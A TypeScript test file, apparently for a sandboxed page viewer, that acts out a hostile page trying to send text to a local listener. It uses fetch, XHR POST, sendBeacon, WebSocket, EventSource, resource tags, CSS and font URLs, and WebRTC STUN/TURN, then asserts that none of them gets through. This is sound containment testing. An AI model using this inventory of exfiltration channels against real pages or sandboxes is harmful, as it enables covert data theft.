// Attack: the page tries to take text off the machine, by every way a page has of reaching an address.
import { expect, test } from './support/test.ts'

test('the page reaches nobody', async ({ moupian, listener }) => {
  const answers = await moupian.page.evaluate(async port => {
    const web = `127.0.0.1:${port}`
    const load = (tag: string, attribute: string, more: Record<string, string> = {}) => {
      const element = document.createElement(tag)
      for (const [name, value] of Object.entries(more)) element.setAttribute(name, value)
      const settled = new Promise<string>(resolve => {
        element.addEventListener('load', () => resolve('loaded'))
        element.addEventListener('error', () => resolve('error'))
        setTimeout(() => resolve('nothing'), 500)
      })
      try {
        element.setAttribute(attribute, `http://${web}/${tag}`)
      } catch {
        return Promise.resolve('error')
      }
      document.body.append(element)
      return settled
    }
    const socket = new Promise<string>(resolve => {
      try {
        const ws = new WebSocket(`ws://${web}/`)
        ws.onopen = () => resolve('loaded')
        ws.onerror = () => resolve('error')
      } catch {
        resolve('error')
      }
    })
    const events = new Promise<string>(resolve => {
      const source = new EventSource(`http://${web}/`)
      source.onopen = () => resolve('loaded')
      source.onerror = () => resolve('error')
    })
    const request = new Promise<string>(resolve => {
      const xhr = new XMLHttpRequest()
      xhr.onload = () => resolve('loaded')
      xhr.onerror = () => resolve('error')
      xhr.open('POST', `http://${web}/`)
      xhr.send('text')
    })
    const style = document.createElement('div')
    style.style.backgroundImage = `url(http://${web}/background)`
    document.body.append(style)
    navigator.sendBeacon(`http://${web}/`, 'text')
    // A refused frame reports the error page as loaded, so only the listener can tell.
    void load('iframe', 'src')
    const face = new FontFace('remote', `url(http://${web}/font)`)
    return await Promise.all([
      fetch(`http://${web}/`).then(
        () => 'loaded',
        () => 'error',
      ),
      fetch(`http://localhost:${port}/`, { mode: 'no-cors' }).then(
        () => 'loaded',
        () => 'error',
      ),
      face.load().then(
        () => 'loaded',
        () => 'error',
      ),
      socket,
      events,
      request,
      load('img', 'src'),
      load('script', 'src'),
      load('link', 'href', { rel: 'stylesheet' }),
      load('link', 'href', { rel: 'prefetch' }),
      load('link', 'href', { rel: 'preconnect' }),
      load('object', 'data'),
      load('audio', 'src'),
    ])
  }, listener.port)
  expect(answers).not.toContain('loaded')
  expect(listener.visits()).toBe(0)
})

test('a call over the network finds no way out', async ({ moupian, listener }) => {
  await moupian.page.evaluate(async port => {
    const urls = [`stun:127.0.0.1:${port}`, `turn:127.0.0.1:${port}`]
    const gathered = (connection: RTCPeerConnection) =>
      new Promise<void>(resolve => {
        connection.onicegatheringstatechange = () => {
          if (connection.iceGatheringState === 'complete') resolve()
        }
        setTimeout(resolve, 3000)
      })
    try {
      const connection = new RTCPeerConnection({ iceServers: [{ urls, username: 'a', credential: 'b' }] })
      connection.createDataChannel('text')
      const done = gathered(connection)
      await connection.setLocalDescription(await connection.createOffer())
      await done
      connection.close()
    } catch {
      // Refused outright, which is as good.
    }
  }, listener.udpPort)
  expect(listener.visits()).toBe(0)
})
